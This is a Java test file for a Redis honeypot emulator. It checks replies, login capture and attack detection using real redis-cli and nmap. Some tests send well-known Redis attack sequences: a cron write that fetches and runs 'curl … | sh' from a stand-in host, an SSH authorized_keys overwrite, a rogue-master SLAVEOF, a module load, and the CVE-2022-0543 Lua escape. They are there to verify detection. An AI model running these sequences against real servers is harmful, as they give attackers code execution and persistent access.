package io.honeybee.pot.redis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.honeybee.pot.Observation;
import io.honeybee.pot.PotFixture;
import io.honeybee.pot.RealClient;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The real redis-cli, and nmap. Needs the Debian packages redis-tools and nmap. */
class RedisClientTest {
  @TempDir Path directory;

  private PotFixture start(Map<String, String> options) throws Exception {
    return PotFixture.start(new RedisPotType(), directory, options);
  }

  private static String cli(PotFixture pot, String script, String... options) throws Exception {
    List<String> command =
        new ArrayList<>(List.of("redis-cli", "-p", Integer.toString(pot.port())));
    command.addAll(List.of(options));
    RealClient client = RealClient.run(script, command.toArray(String[]::new));
    return client.output();
  }

  @Test
  void realClientFindsAServerThatKeepsWhatItWrites() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      String output =
          cli(
              pot,
              """
              PING
              SET k v
              GET k
              INCR n
              LPUSH l a b
              LRANGE l 0 -1
              HSET h f 1
              HGETALL h
              TYPE h
              EXPIRE k 100
              TTL k
              DEL k
              GET k
              LPUSH h x
              SELECT 3
              DBSIZE
              """);

      assertThat(output.lines().map(String::strip).filter(l -> !l.isEmpty()))
          .containsExactly(
              "PONG",
              "OK",
              "v",
              "1",
              "2",
              "b",
              "a",
              "1",
              "f",
              "1",
              "hash",
              "1",
              "100",
              "1",
              "WRONGTYPE Operation against a key holding the wrong kind of value",
              "OK",
              "0");
      assertThat(pot.await("redis.command.input", 16))
          .extracting(o -> o.data().get("input"))
          .contains("PING", "SET k v", "HGETALL h");
      pot.await("redis.session.closed", 1);
    }
  }

  @Test
  void infoAgreesWithTheMachine() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      assertThat(cli(pot, "INFO\n"))
          .contains("redis_version:7.0.15")
          .contains("os:Linux " + PotFixture.WORLD.kernelRelease() + " x86_64")
          .contains("tcp_port:" + pot.port())
          .contains("total_system_memory:" + (PotFixture.WORLD.memory().totalKilobytes() << 10))
          .contains("role:master")
          .contains("db0:keys=")
          .doesNotContain("${");
      assertThat(cli(pot, "HGETALL nothing\nINFO server\n", "-3"))
          .contains("redis_mode:standalone");
    }
  }

  @Test
  void eachPasswordIsALogin() throws Exception {
    try (PotFixture pot = start(Map.of("auth", "password", "login", "list:default/s3cret"))) {
      assertThat(cli(pot, "PING\nAUTH guess\nAUTH admin guess\nHELLO 3\nAUTH s3cret\nPING\n"))
          .contains("NOAUTH Authentication required.")
          .contains("WRONGPASS invalid username-password pair or user is disabled.")
          .contains("NOAUTH HELLO must be called with the client already authenticated")
          .contains("OK")
          .contains("PONG");

      assertThat(pot.await("redis.login.failed", 2))
          .extracting(o -> o.data().get("username") + "/" + o.data().get("password"))
          .containsExactly("default/guess", "admin/guess");
      assertThat(pot.await("redis.login.success", 1).getFirst().data())
          .containsEntry("username", "default")
          .containsEntry("password", "s3cret");
      assertThat(pot.seen("redis.command.input"))
          .extracting(o -> String.valueOf(o.data().get("input")))
          .noneMatch(input -> input.contains("s3cret"));
    }
  }

  @Test
  void passwordsAreKeptWhereNoneIsNeeded() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      assertThat(cli(pot, "AUTH guess\nHELLO 3 AUTH root toor\n"))
          .contains("ERR AUTH <password> called without any password configured")
          .contains("WRONGPASS");
      assertThat(pot.await("redis.login.failed", 2))
          .extracting(o -> o.data().get("password"))
          .containsExactly("guess", "toor");
    }
  }

  @Test
  void cronAndKeyFilesAreToldWhenTheyWouldBeWritten() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      cli(
          pot,
          """
          FLUSHALL
          SET x "\\n\\n*/1 * * * * curl -fsSL http://192.0.2.7/i.sh | sh\\n\\n"
          CONFIG SET dir /var/spool/cron/crontabs
          CONFIG SET dbfilename root
          SAVE
          SET x "\\n\\nssh-rsa AAAAB3NzaC1yc2E= x@y\\n\\n"
          CONFIG SET dir /root/.ssh
          CONFIG SET dbfilename authorized_keys
          BGSAVE
          """);

      List<Observation> attacks = pot.await("redis.exploit.attempt", 2);
      assertThat(attacks)
          .extracting(o -> o.data().get("kind"), o -> o.data().get("target"))
          .containsExactly(
              tuple("cron-write", "/var/spool/cron/crontabs/root"),
              tuple("ssh-key-write", "/root/.ssh/authorized_keys"));
      assertThat(attacks)
          .extracting(o -> o.data().get("threat_technique_id"))
          .containsExactly(List.of("T1053.003"), List.of("T1098.004"));
      Map<String, Object> captured = pot.await("redis.value.captured", 2).getFirst().data();
      assertThat(Files.readString(directory.resolve(String.valueOf(captured.get("outfile")))))
          .contains("*/1 * * * * curl -fsSL http://192.0.2.7/i.sh | sh");
    }
  }

  @Test
  void rogueMastersModulesAndEscapesAreToldAndNotFollowed() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      String output =
          cli(
              pot,
              """
              SLAVEOF 192.0.2.9 21000
              ROLE
              SET a b
              MODULE LOAD /tmp/exp.so
              SLAVEOF NO ONE
              EVAL "local f = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); return 1" 0
              EVAL "return 7" 0
              system.exec id
              """);

      assertThat(output)
          .contains("READONLY You can't write against a read only replica.")
          .contains("ERR MODULE command not allowed.")
          .contains("Script attempted to access nonexistent global variable 'package' script: ")
          .contains("7")
          .contains("ERR unknown command 'system.exec', with args beginning with: 'id'");
      assertThat(pot.await("redis.exploit.attempt", 3))
          .extracting(o -> o.data().get("kind") + " " + o.data().get("target"))
          .containsExactly(
              "replication 192.0.2.9:21000",
              "module-load /tmp/exp.so",
              "lua-sandbox-escape CVE-2022-0543");
    }
  }

  @Test
  void scannerReadsTheVersion() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      RealClient nmap =
          RealClient.run(
              "",
              "nmap",
              "-Pn",
              "-n",
              "-sV",
              "--script",
              "redis-info",
              "-p",
              Integer.toString(pot.port()),
              "127.0.0.1");
      assertThat(nmap.output())
          .contains("Redis key-value store")
          .contains("Version: 7.0.15")
          .contains("Operating System: Linux " + PotFixture.WORLD.kernelRelease() + " x86_64");
    }
  }
}
